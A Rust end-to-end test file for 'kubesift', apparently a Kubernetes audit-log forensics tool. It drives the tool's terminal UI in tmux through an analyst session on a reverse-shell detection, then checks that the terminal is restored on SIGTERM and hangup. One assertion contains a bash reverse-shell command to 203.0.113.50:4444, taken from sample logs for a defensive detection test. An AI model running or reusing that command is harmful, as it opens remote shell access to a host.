//! End to end: the real binary in tmux on the sample logs, driven with keys as a user would —
//! open an exec finding, open its event, read the decoded command, pivot to its account, go
//! back, quit — checking the screen (capture-pane) at each step and the exit status.
//! Needs tmux: skipped without it locally, failed under CI (see tests/common).

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

struct Tmux {
    socket: String,
    session: &'static str,
}

impl Tmux {
    fn run(&self, args: &[&str]) -> String {
        let out = Command::new("tmux")
            .arg("-L")
            .arg(&self.socket)
            .args(args)
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    fn keys(&self, keys: &[&str]) {
        for k in keys {
            self.run(&["send-keys", "-t", self.session, k]);
            std::thread::sleep(Duration::from_millis(60));
        }
    }

    fn screen(&self) -> String {
        self.run(&["capture-pane", "-p", "-t", self.session])
    }

    /// Waits until the screen satisfies `ok`, or fails showing the screen.
    fn wait(&self, what: &str, ok: impl Fn(&str) -> bool) -> String {
        let start = Instant::now();
        loop {
            let s = self.screen();
            if ok(&s) {
                return s;
            }
            assert!(
                start.elapsed() < Duration::from_secs(20),
                "timed out waiting for {what}:\n{s}"
            );
            std::thread::sleep(Duration::from_millis(100));
        }
    }
}

impl Drop for Tmux {
    fn drop(&mut self) {
        let _ = Command::new("tmux")
            .arg("-L")
            .arg(&self.socket)
            .arg("kill-server")
            .output();
    }
}

fn filters_line(screen: &str) -> String {
    screen
        .lines()
        .find(|l| l.contains("filters:"))
        .unwrap_or_default()
        .to_owned()
}

fn events_count(screen: &str) -> Option<u64> {
    let line = screen.lines().find(|l| l.contains("events — "))?;
    line.split("events — ")
        .nth(1)?
        .split_whitespace()
        .next()?
        .parse()
        .ok()
}

#[test]
#[expect(
    clippy::too_many_lines,
    reason = "one scripted analyst session, step by step"
)]
fn analyst_session_in_tmux() {
    if !common::tool("tmux", "-V") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let index = dir.path().join("idx");
    let sample = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("sample-logs");
    let out = common::ks(&index)
        .arg("index")
        .arg(&sample)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", common::stderr(&out));
    let exit_file = dir.path().join("exit");
    let bin = assert_cmd::cargo::cargo_bin("kubesift");
    let cmd = format!(
        "{} --index {} tui; echo EXIT:$? > {}",
        shell(&bin),
        shell(&index),
        shell(&exit_file)
    );
    let t = Tmux {
        socket: format!("kubesift-e2e-{}", std::process::id()),
        session: "e2e",
    };
    t.run(&[
        "new-session",
        "-d",
        "-s",
        t.session,
        "-x",
        "180",
        "-y",
        "45",
        &cmd,
    ]);

    // The workbench opens on the incidents; 1 goes to the detections, most severe first.
    t.wait("the incidents view", |s| {
        s.contains("incidents —") && s.contains("INC-")
    });
    t.keys(&["1"]);
    let s = t.wait("the detections view", |s| {
        s.contains("detections —") && s.contains("KS-EXEC-REVERSE-SHELL")
    });
    let rows: Vec<&str> = s.lines().filter(|l| l.contains(" KS-")).collect();
    let at = rows
        .iter()
        .position(|l| l.contains("KS-EXEC-REVERSE-SHELL"))
        .unwrap();
    for _ in 0..at {
        t.keys(&["j"]);
    }
    t.wait("the reverse shell finding selected", |s| {
        s.lines()
            .any(|l| l.contains('▶') && l.contains("KS-EXEC-REVERSE-SHELL"))
    });

    // Its events, then the event itself with the decoded command.
    t.keys(&["Enter"]);
    t.wait("the finding's events", |s| {
        s.contains("events — 1 matching") && s.contains("pods/exec")
    });
    t.keys(&["Enter"]);
    let s = t.wait("the decoded command", |s| {
        s.contains("command ") && s.contains("/dev/tcp/203.0.113.50/4444")
    });
    assert!(
        s.contains("bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'"),
        "{s}"
    );

    // Pivot to the account: every event of it.
    t.keys(&["p"]);
    t.wait("the pivot menu", |s| {
        s.contains("pivot on") && s.contains("account: system:serviceaccount:shop:web")
    });
    t.keys(&["Enter"]);
    let s = t.wait("the account's events", |s| {
        filters_line(s).contains("user:system:serviceaccount:shop:web")
            && events_count(s).is_some_and(|n| n > 100)
    });
    assert!(
        !filters_line(&s).contains("finding KS-"),
        "the pivot widens to the whole account"
    );

    // Back in the pivot history: the finding's single event again.
    t.keys(&["["]);
    t.wait("the finding's events again", |s| {
        filters_line(s).contains("finding KS-EXEC-REVERSE-SHELL") && events_count(s) == Some(1)
    });

    // The case: mark the event, tag it, write a two-line note; the Case view shows it and
    // the case file holds it.
    t.keys(&["m"]);
    t.wait("the bookmark", |s| {
        s.contains("bookmarked ") && s.contains("★1")
    });
    t.keys(&["#"]);
    t.wait("the tag prompt", |s| s.contains("tags (comma"));
    t.keys(&["reverse-shell c2"]);
    t.keys(&["Enter"]);
    t.wait("the tags saved", |s| s.contains("tags: reverse-shell, c2"));
    t.keys(&["a"]);
    t.wait("the note editor", |s| s.contains("ctrl-j new line"));
    t.keys(&["shell to 203.0.113.50"]);
    t.keys(&["C-j"]);
    t.keys(&["then the CSR"]);
    t.keys(&["Enter"]);
    t.wait("the note saved", |s| s.contains("note saved"));
    t.keys(&["5"]);
    t.wait("the case view", |s| {
        s.contains("case — 1 bookmarks")
            && s.contains("reverse-shell, c2")
            && s.contains("then the CSR")
    });
    let case: serde_json::Value =
        serde_json::from_slice(&std::fs::read(index.join("case.json")).unwrap()).unwrap();
    let marked = case["events"].as_object().unwrap();
    assert_eq!(marked.len(), 1);
    let b = marked.values().next().unwrap();
    assert_eq!(b["tags"], serde_json::json!(["reverse-shell", "c2"]));
    assert_eq!(b["note"], "shell to 203.0.113.50\nthen the CSR");
    t.keys(&["q"]);

    // Help overlay, then quit by going back view by view.
    t.keys(&["?"]);
    t.wait("the help overlay", |s| {
        s.contains("help (? or esc to close)")
    });
    t.keys(&["Escape"]);
    let start = Instant::now();
    while !exit_file.exists() {
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "did not quit:\n{}",
            t.screen()
        );
        t.keys(&["q"]);
        std::thread::sleep(Duration::from_millis(200));
    }
    std::thread::sleep(Duration::from_millis(100));
    assert_eq!(
        std::fs::read_to_string(&exit_file).unwrap().trim(),
        "EXIT:0"
    );
}

/// `#{alternate_on} #{mouse_any_flag}` of the pane: `1 1` while the workbench runs, `0 0`
/// once it has given the terminal back.
fn terminal_modes(t: &Tmux) -> String {
    t.run(&[
        "display-message",
        "-p",
        "-t",
        t.session,
        "#{alternate_on} #{mouse_any_flag}",
    ])
    .trim()
    .to_owned()
}

#[test]
fn regression_deep_saved_filter_and_sigterm_leave_the_terminal_restored() {
    if !common::tool("tmux", "-V") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let case = dir.path().join("case.json");
    let deep = format!("{}verb:get", "NOT ".repeat(500));
    let body = serde_json::json!({"version": 1, "filters": {"deep": deep}});
    std::fs::write(&case, body.to_string()).unwrap();
    let (pid_file, exit_file) = (dir.path().join("pid"), dir.path().join("exit"));
    // The script's shell becomes the workbench (exec): its pid is the workbench's.
    let script = dir.path().join("run.sh");
    let bin = assert_cmd::cargo::cargo_bin("kubesift");
    std::fs::write(
        &script,
        format!(
            "echo $$ > {}\nexec {} --index {} tui --case {}\n",
            shell(&pid_file),
            shell(&bin),
            shell(common::sample_index()),
            shell(&case)
        ),
    )
    .unwrap();
    // The pane outlives the workbench, so its terminal modes can be read afterwards.
    let cmd = format!(
        "sh {}; echo EXIT:$? > {}; sleep 60",
        shell(&script),
        shell(&exit_file)
    );
    let t = Tmux {
        socket: format!("kubesift-e2e-deep-{}", std::process::id()),
        session: "deep",
    };
    t.run(&[
        "new-session",
        "-d",
        "-s",
        t.session,
        "-x",
        "160",
        "-y",
        "40",
        &cmd,
    ]);
    t.wait("the first view", |s| {
        s.contains("incidents —") || s.contains("detections —")
    });
    assert_eq!(terminal_modes(&t), "1 1", "alternate screen and mouse on");

    t.keys(&[":", "load deep", "Enter"]);
    t.wait("the error in the status line", |s| {
        s.contains("error: saved filter `deep` is not a valid query")
    });
    t.keys(&["2"]);
    t.wait("the workbench still answering", |s| s.contains("events — "));
    assert!(!exit_file.exists(), "the workbench is still running");

    let pid = std::fs::read_to_string(&pid_file).unwrap();
    let killed = Command::new("kill")
        .args(["-TERM", pid.trim()])
        .status()
        .unwrap();
    assert!(killed.success());
    let start = Instant::now();
    while !exit_file.exists() {
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "did not stop on SIGTERM:\n{}",
            t.screen()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    std::thread::sleep(Duration::from_millis(100));
    assert_eq!(
        std::fs::read_to_string(&exit_file).unwrap().trim(),
        "EXIT:0"
    );
    assert_eq!(terminal_modes(&t), "0 0", "terminal given back");
}

fn shell(p: &Path) -> String {
    format!("'{}'", p.display().to_string().replace('\'', "'\\''"))
}

#[test]
fn regression_workbench_exits_when_its_terminal_hangs_up() {
    // Killing the tmux session left the workbench reading end of file from the gone
    // terminal forever, at most of a core.
    if !common::tool("tmux", "-V") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let pid_file = dir.path().join("pid");
    let script = dir.path().join("run.sh");
    let bin = assert_cmd::cargo::cargo_bin("kubesift");
    std::fs::write(
        &script,
        format!(
            "echo $$ > {}\nexec {} --index {} tui\n",
            shell(&pid_file),
            shell(&bin),
            shell(common::sample_index()),
        ),
    )
    .unwrap();
    let t = Tmux {
        socket: format!("kubesift-e2e-hup-{}", std::process::id()),
        session: "hup",
    };
    let cmd = format!("sh {}", shell(&script));
    t.run(&[
        "new-session",
        "-d",
        "-s",
        t.session,
        "-x",
        "100",
        "-y",
        "30",
        &cmd,
    ]);
    t.wait("the first view", |s| {
        s.contains("incidents —") || s.contains("detections —")
    });
    let pid = std::fs::read_to_string(&pid_file)
        .unwrap()
        .trim()
        .to_owned();
    t.run(&["kill-server"]);
    // Gone, or a zombie nobody reaps (PID 1 of a container may not).
    let running = || {
        std::fs::read_to_string(format!("/proc/{pid}/stat")).is_ok_and(|s| {
            !s.rsplit(')')
                .next()
                .unwrap_or("")
                .trim_start()
                .starts_with('Z')
        })
    };
    let start = Instant::now();
    while running() {
        assert!(
            start.elapsed() < Duration::from_secs(15),
            "the workbench kept running after its terminal hung up"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}
